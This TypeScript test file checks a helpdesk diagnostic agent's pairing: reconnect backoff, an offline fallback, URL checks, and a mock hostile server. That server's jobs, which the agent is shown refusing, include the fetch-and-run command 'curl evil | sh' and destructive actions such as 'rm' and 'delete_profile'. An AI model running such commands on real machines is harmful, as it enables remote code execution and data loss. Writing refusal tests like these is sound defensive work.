/**
 * The agent's side of pairing, in process: the reconnect schedule (fake clock), the fallback
 * when the bot cannot be reached (report summary and result code, then retries until the
 * window closes), and a hostile server on a loopback socket whose jobs the agent refuses by
 * itself: probes outside its catalog, actions outside its allow-list, unknown fields and types.
 */
import assert from 'node:assert/strict';
import type { AddressInfo } from 'node:net';
import { after, describe, test } from 'node:test';
import { type WebSocket, WebSocketServer } from 'ws';
import type { CheckOptions } from '../../probes/agent/check.ts';
import { loadAgentConfig } from '../../probes/agent/config.ts';
import { createJobGuard } from '../../probes/agent/job-guard.ts';
import { type Connect, openLink } from '../../probes/agent/link.ts';
import { runPair } from '../../probes/agent/pair.ts';
import { CLOSE, parseAgentMessage } from '../../probes/agent/protocol.ts';
import { agentsUrl } from '../../probes/agent/server-url.ts';
import { loadCatalogFile } from '../../probes/catalog/index.ts';
import { encodeResultCode } from '../../probes/result-code.ts';
import { fakeTimers, inspectedReport } from './fakes.ts';

const catalog = loadCatalogFile(new URL('../fixtures/catalog/valid-lab.json', import.meta.url).pathname);
const config = loadAgentConfig(
  { RECONNECT_LAB: '1', HOME: '/nonexistent-home', RECONNECT_SYSTEM_RESOLVER: '127.0.0.1:5353' },
  'linux',
);
const device = { name: 'LAB-PC', os: 'linux', osVersion: '6.8', agentVersion: '0.1.0' };

/** A connection attempt that always fails, as when the bot's address is unreachable. */
const unreachable =
  (attempts: number[], now: () => number): Connect =>
  (_url, handlers) => {
    attempts.push(now());
    queueMicrotask(() => handlers.close(1006, 'connect ECONNREFUSED'));
    return { send() {}, close() {} };
  };

function sink() {
  let text = '';
  return {
    write: (t: string) => {
      text += t;
    },
    get text() {
      return text;
    },
  };
}

describe('the link', () => {
  test('retries with doubling delays, then gives up when the window closes', async () => {
    const timers = fakeTimers();
    const start = timers.now();
    const attempts: number[] = [];
    const link = openLink({
      url: 'ws://127.0.0.1:9',
      connect: unreachable(attempts, timers.now),
      timers,
      random: () => 0.5,
      retryForMs: 60_000,
      onOpen() {},
      onMessage() {},
    });
    const end = await timers.settle(link.ended, 120_000);
    assert.deepEqual(
      attempts.map((t) => t - start),
      [0, 1000, 3000, 7000, 15000, 31000],
    );
    assert.deepEqual(end, { why: 'gave_up', lastError: 'connect ECONNREFUSED' });
  });

  test('a server that takes the socket but never accepts the agent: the backoff still grows and ends', async () => {
    const timers = fakeTimers();
    const start = timers.now();
    const attempts: number[] = [];
    const opensThenCloses: Connect = (_url, handlers) => {
      attempts.push(timers.now());
      queueMicrotask(() => {
        handlers.open();
        handlers.close(1013, 'rate_limited');
      });
      return { send() {}, close() {} };
    };
    const link = openLink({
      url: 'ws://127.0.0.1:9',
      connect: opensThenCloses,
      timers,
      random: () => 0.5,
      retryForMs: 60_000,
      onOpen() {},
      onMessage() {},
    });
    const end = await timers.settle(link.ended, 120_000);
    assert.deepEqual(
      attempts.map((t) => t - start),
      [0, 1000, 3000, 7000, 15000, 31000],
    );
    assert.equal(end.why, 'gave_up');
  });

  test('the server URL becomes the gateway URL; the lab takes numeric loopback only', () => {
    assert.equal(
      agentsUrl('https://help.example.com/', { lab: false, labNets: [] }),
      'wss://help.example.com/api/agents',
    );
    assert.equal(
      agentsUrl('http://127.0.0.1:8080', { lab: true, labNets: [] }),
      'ws://127.0.0.1:8080/api/agents',
    );
    assert.throws(
      () => agentsUrl('https://help.example.com', { lab: true, labNets: [] }),
      /RECONNECT_LAB=1 accepts numeric lab addresses only/,
    );
    assert.throws(() => agentsUrl('http://192.0.2.1', { lab: true, labNets: [] }), /not loopback/);
    assert.throws(() => agentsUrl('ftp://x', { lab: false, labNets: [] }), /scheme must be https/);
  });
});

describe('when the bot cannot be reached', () => {
  test('the agent checks on its own, prints the result code, retries, then gives up', async () => {
    const timers = fakeTimers();
    const attempts: number[] = [];
    const out = sink();
    const checks: CheckOptions[] = [];
    const report = inspectedReport();
    const done = runPair({
      code: '7k3m9-qxt4h',
      server: 'http://127.0.0.1:9',
      config,
      catalog,
      device,
      out,
      err: sink(),
      consent: async () => true,
      runCheck: async (o) => {
        checks.push(o);
        return report;
      },
      connect: unreachable(attempts, timers.now),
      timers,
      random: () => 0.5,
      retryForMs: 5 * 60_000,
    });
    assert.equal(await timers.settle(done, 10 * 60_000), 1);
    assert.equal(checks.length, 1, 'one check, not one per attempt');
    assert.equal(checks[0].only, undefined);
    assert.ok(out.text.includes(`Result code: ${encodeResultCode(report)}`), out.text);
    assert.match(out.text, /Type this code into the chat/);
    assert.match(
      out.text,
      /Cannot reach the helpdesk bot at http:\/\/127.0.0.1:9 \(connect ECONNREFUSED\); trying again in 1 s/,
    );
    assert.match(out.text, /Gave up reaching the helpdesk bot after 5 minutes/);
    assert.ok(attempts.length >= 8, `${attempts.length} attempts`);
  });

  test('a code that cannot be ours is refused before connecting', async () => {
    await assert.rejects(
      runPair({
        code: 'hello',
        server: 'http://127.0.0.1:9',
        config,
        catalog,
        out: sink(),
        err: sink(),
        consent: async () => true,
        runCheck: async () => inspectedReport(),
      }),
      { code: 'config_invalid', message: /is not a pairing code/ },
    );
  });
});

describe('jobs the agent refuses by itself', () => {
  test('the guard knows the catalog: ids of its hosts and kinds pass, anything else is refused', () => {
    const guard = createJobGuard({ catalog, platform: 'linux', home: '/h' });
    assert.ok(guard.probeIds.has('tls:login.lab.test:4431'));
    guard.check({
      v: 1,
      type: 'job',
      jobId: 'a',
      kind: 'recheck',
      probes: ['tls:login.lab.test:4431', 'dns'],
      deadlineMs: 5000,
    });
    assert.throws(
      () =>
        guard.check({
          v: 1,
          type: 'job',
          jobId: 'b',
          kind: 'recheck',
          probes: ['tls:login.microsoftonline.com:443'],
          deadlineMs: 5000,
        }),
      { code: 'not_in_catalog' },
    );
    assert.throws(
      () =>
        guard.check({
          v: 1,
          type: 'job',
          jobId: 'c',
          kind: 'action',
          action: 'rm' as never,
          deadlineMs: 5000,
        }),
      { code: 'action_not_allowed' },
    );
  });

  const servers: WebSocketServer[] = [];
  after(() => {
    for (const s of servers) s.close();
  });

  test('a hostile server: refused jobs, declined consent, no side effect', async () => {
    const wss = new WebSocketServer({ host: '127.0.0.1', port: 0 });
    servers.push(wss);
    await new Promise((resolve) => wss.once('listening', resolve));
    const port = (wss.address() as AddressInfo).port;
    const received: ReturnType<typeof parseAgentMessage>[] = [];
    const checks: CheckOptions[] = [];
    const actions: unknown[] = [];
    let socket: WebSocket | undefined;
    const next = (predicate: (m: ReturnType<typeof parseAgentMessage>) => boolean) =>
      new Promise<ReturnType<typeof parseAgentMessage>>((resolve) => {
        const look = () => {
          const found = received.find(predicate);
          if (found) resolve(found);
          else setTimeout(look, 10);
        };
        look();
      });
    wss.on('connection', (ws) => {
      socket = ws;
      ws.on('message', (data) => received.push(parseAgentMessage(data.toString())));
    });
    const out = sink();
    const err = sink();
    const done = runPair({
      code: '7K3M9-QXT4H',
      server: `http://127.0.0.1:${port}`,
      config,
      catalog,
      device,
      out,
      err,
      consent: async () => false,
      executeAction: async (...args) => {
        actions.push(args);
        throw new Error('must not run');
      },
      runCheck: async (o) => {
        checks.push(o);
        return inspectedReport();
      },
    });
    const hello = await next((m) => m.type === 'hello');
    assert.deepEqual(hello, { v: 1, type: 'hello', code: '7K3M9QXT4H', device });
    // A job before hello.ok is not acted on.
    socket!.send(JSON.stringify({ v: 1, type: 'job', jobId: 'early', kind: 'check', deadlineMs: 60_000 }));
    socket!.send(
      JSON.stringify({
        v: 1,
        type: 'hello.ok',
        caseLabel: "Alice's case 3F9K2A1B (web chat)",
        agentId: 'ag-1',
        secret: 's'.repeat(43),
      }),
    );
    const send = (m: object) => socket!.send(JSON.stringify({ v: 1, deadlineMs: 60_000, ...m }));
    send({ type: 'job', jobId: 'outside', kind: 'recheck', probes: ['tls:login.microsoftonline.com:443'] });
    send({ type: 'job', jobId: 'not-allowed', kind: 'action', action: 'delete_profile' });
    send({ type: 'job', jobId: 'extra-field', kind: 'check', command: 'curl evil | sh' });
    send({ type: 'exec', jobId: 'unknown-type' });
    for (const jobId of ['outside', 'not-allowed', 'extra-field']) {
      const r = await next((m) => m.type === 'result' && m.jobId === jobId);
      assert.ok(r.type === 'result' && 'error' in r && r.error.code === 'refused', JSON.stringify(r));
    }
    send({ type: 'job', jobId: 'act', kind: 'action', action: 'flush_dns' });
    const consent = await next((m) => m.type === 'consent');
    assert.deepEqual(consent, { v: 1, type: 'consent', jobId: 'act', granted: false });
    const declined = await next((m) => m.type === 'result' && m.jobId === 'act');
    assert.ok(declined.type === 'result' && 'action' in declined && declined.action.status === 'declined');
    send({ type: 'job', jobId: 'dns-again', kind: 'recheck', probes: ['dns'] });
    const recheck = await next((m) => m.type === 'result' && m.jobId === 'dns-again');
    assert.ok(recheck.type === 'result' && 'report' in recheck);
    socket!.close(CLOSE.caseClosed, 'case closed');
    assert.equal(await done, 0);

    assert.deepEqual(actions, [], 'no action ran');
    assert.deepEqual(
      checks.map((c) => c.only),
      [['dns']],
      'only the valid recheck ran a check',
    );
    assert.equal(received.filter((m) => m.type === 'result' && m.jobId === 'early').length, 0);
    assert.equal(received.filter((m) => m.type === 'result' && m.jobId === 'unknown-type').length, 0);
    assert.match(out.text, /Joined Alice's case 3F9K2A1B \(web chat\)/);
    assert.match(out.text, /Declined: nothing was changed/);
    assert.match(
      err.text,
      /refused a job from the server: job outside asks for probe "tls:login.microsoftonline.com:443"/,
    );
    assert.match(err.text, /ignored a message from the server: server message type "exec" is unknown/);
    assert.match(out.text, /The helpdesk closed the case/);
  });
});
